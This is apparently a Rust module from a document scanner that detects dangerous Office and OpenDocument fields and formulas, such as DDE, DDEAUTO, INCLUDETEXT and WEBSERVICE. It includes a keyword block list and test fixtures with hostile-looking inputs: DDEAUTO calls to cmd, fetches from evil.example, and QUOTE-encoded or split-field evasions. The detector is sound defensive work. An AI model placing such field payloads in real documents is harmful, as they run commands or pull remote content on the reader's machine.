//! The fields of a text of Office Open XML, and the formulas of cells: orders that are carried out when they are
//! refreshed, however they are cut to pieces.

use super::markup::{Piece, Tag};

/// What runs, or fetches something from elsewhere, wherever a field or a formula says it.
const ANYWHERE: &[&str] = &["dde", "ddeauto", "includepicture", "includetext", "webservice"];
/// The same as the first word of a field: elsewhere these are words like others.
const FIRST: &[&str] = &["include", "import", "link", "embed", "database", "rd"];
/// Where a field begins in what is said, and where its order ends.
const BEGINS: char = '\u{1}';
const ENDS: char = '\u{2}';

/// What the fields of a text say.
#[derive(Default)]
pub(super) struct Fields {
    said: String,
    is_inside: bool,
}

impl Fields {
    pub(super) fn follow(&mut self, piece: &Piece<'_>) {
        match piece {
            Piece::Opens(tag) => self.open(tag),
            Piece::Text(text) if self.is_inside => {
                let text = text.replace([BEGINS, ENDS], " ");
                self.said += &text;
            }
            Piece::Closes("instrText" | "delInstrText" | "f") => self.is_inside = false,
            Piece::Closes("p") => self.said.push(' '),
            _ => {}
        }
    }

    fn open(&mut self, tag: &Tag<'_>) {
        match tag.name {
            // What an order of a text says, and the formula of a cell.
            "instrText" | "delInstrText" | "f" => self.is_inside = !tag.is_whole,
            "fldChar" => {
                let begins = |kind: &str| kind.trim().eq_ignore_ascii_case("begin");
                let mark = if tag.all("fldCharType").any(begins) { BEGINS } else { ENDS };
                self.said.push(mark);
            }
            _ => {}
        }
        for whole in tag.all("instr").chain(tag.all("formula")) {
            let whole = whole.replace([BEGINS, ENDS], " ");
            self.said += &format!("{BEGINS}{whole}{ENDS}");
        }
    }

    /// Whether one of them runs another program, or fetches something.
    pub(super) fn is_harmful(&self) -> bool {
        let is_one =
            |words: &[&str], word: &str| words.iter().any(|known| word.eq_ignore_ascii_case(known));
        let mut words = self.said.split(|c: char| !c.is_alphanumeric());
        words.any(|word| is_one(ANYWHERE, word))
            || self.fields().any(|field| {
                let field = field.trim_start();
                let end = field.find(|c: char| !c.is_alphanumeric());
                let (order, rest) = field.split_at(end.unwrap_or(field.len()));
                let is_spelt = order.eq_ignore_ascii_case("quote") && has_number(rest);
                is_one(FIRST, order) || is_spelt || is_made(order, rest)
            })
    }

    /// What stands behind the beginning of each field, fields within it as well.
    fn fields(&self) -> impl Iterator<Item = &str> {
        let begins = self.said.match_indices(BEGINS);
        begins.filter_map(|(at, mark)| self.said.get(at + mark.len()..))
    }
}

/// Whether numbers stand among the words of a field that says the characters that they stand for.
fn has_number(rest: &str) -> bool {
    let own = rest.split([BEGINS, ENDS]).next().unwrap_or_default();
    let outside_quotes = own.split('"').step_by(2);
    outside_quotes
        .flat_map(str::split_whitespace)
        .any(|word| word.starts_with(|c: char| c.is_ascii_digit()))
}

/// Whether another field makes a part of the order: then nobody can tell what the order is.
fn is_made(order: &str, rest: &str) -> bool {
    rest.starts_with(BEGINS) && !order.starts_with('=')
}

#[cfg(test)]
mod tests {
    use super::super::markup;
    use super::*;

    fn is_harmful(text: &str) -> bool {
        let mut fields = Fields::default();
        for piece in markup::pieces(text) {
            fields.follow(&piece.unwrap());
        }
        fields.is_harmful()
    }

    /// A field of which each `{` begins one and each `}` ends one.
    fn field(said: &str) -> String {
        let mark = |kind| format!("</instrText><w:fldChar w:fldCharType='{kind}'/><instrText>");
        let said = said.replace('{', &mark("begin")).replace('}', &mark("end"));
        format!("<p><instrText>{said}</instrText></p>")
    }

    #[test]
    fn what_runs_or_fetches_is_told_however_it_is_spelt() {
        for bad in [
            "{DDEAUTO c:\\cmd}",
            "{ IF 1 {dde x} }",
            "{INCLUDEPICTURE \"http://evil.example/x.png\" \\d}",
            "{ includetext \\\\evil\\s\\x.docx}",
            "{LINK Excel.Sheet x}",
            "{Import a}",
            "{RD a.docx}",
            "{QUOTE 68 68 69}",
            "{ {QUOTE \"DD\"}{QUOTE \"EAUTO\"} c:\\x}",
            "{D{QUOTE DEAUTO} c:\\x}",
        ] {
            assert!(is_harmful(&field(bad)), "{bad}");
        }
        for bad in [
            "<f x:instr='PAGE' w:instr='DDEAUTO c'/>",
            "<f w:instr='INCLUDETEXT \\\\evil'/>",
            "<f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f>",
            "<c table:formula='of:=DDE(\"soffice\";\"x\";\"a\")'/>",
            "<instrText>DD<x/>E</instrText>",
            "<delInstrText>DDE</delInstrText>",
            "<fldChar x:fldCharType='end' w:fldCharType='begin'/><instrText>LINK a</instrText>",
        ] {
            assert!(is_harmful(bad), "{bad}");
        }
        for good in [
            "{PAGE}{NUMPAGES}",
            "{ TOC \\o }",
            "{HYPERLINK \"https://example.org/link import\"}",
            "{ = {PAGE} - 1}",
            "{={PAGE}-1}",
            "{IF {PAGE} = 1 \"a\"}",
            "{QUOTE \"on 12 June\"}",
            "{REF link}",
        ] {
            assert!(!is_harmful(&field(good)), "{good}");
        }
    }
}
